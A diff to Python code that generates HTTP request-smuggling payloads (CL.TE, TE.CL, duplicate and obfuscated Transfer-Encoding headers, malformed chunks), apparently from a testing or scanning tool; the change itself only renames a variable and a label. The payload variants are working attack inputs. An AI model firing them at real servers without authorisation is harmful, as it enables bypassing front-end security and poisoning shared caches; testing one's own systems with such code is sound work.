@@ -17,10 +17,10 @@ def smuggled_request(host: str, subject: str) -> bytes:
 def ambiguous_requests(host: str, smuggled: bytes) -> Iterator[tuple[str, bytes]]:
     """A name for each, and the request with the smuggled one in its body."""
     ended, chunked = b"0\r\n\r\n" + smuggled, b"%x\r\n%b\r\n0\r\n\r\n" % (len(smuggled), smuggled)
-    both = f"Content-Length: {len(ended)}\r\n"
+    whole = f"Content-Length: {len(ended)}\r\n"
     first_line = b"%x\r\n" % len(smuggled)  # of the chunk
     short = f"Content-Length: {len(first_line)}\r\n"
-    yield "CL.TE", _post(host, both + "Transfer-Encoding: chunked\r\n", ended)
+    yield "CL.TE", _post(host, whole + "Transfer-Encoding: chunked\r\n", ended)
     yield "TE.CL", _post(host, short + "Transfer-Encoding: chunked\r\n", chunked)
     yield "two lengths", _post(host, f"Content-Length: 0\r\nContent-Length: {len(smuggled)}\r\n", smuggled)
     yield (
@@ -47,7 +47,7 @@ def ambiguous_requests(host: str, smuggled: bytes) -> Iterator[tuple[str, bytes]
         "X-Nul: \x00\r\nTransfer-Encoding: chunked",
         "Transfer_Encoding: chunked",
     ):
-        yield f"{field!r} with a length of all", _post(host, f"{both}{field}\r\n", ended)
+        yield f"{field!r} with the length of its whole body", _post(host, f"{whole}{field}\r\n", ended)
         yield f"{field!r} with the length of its first line", _post(host, f"{short}{field}\r\n", chunked)
     for chunks in (b"0x0\r\n\r\n", b"-0\r\n\r\n", b"0;\n\r\n\r\n", b"1\r\nxx0\r\n\r\n", b"f" * 17 + b"1\r\n", b"0\n\n"):
         yield f"chunks {chunks!r}", _post(host, "Transfer-Encoding: chunked\r\n", chunks + smuggled)
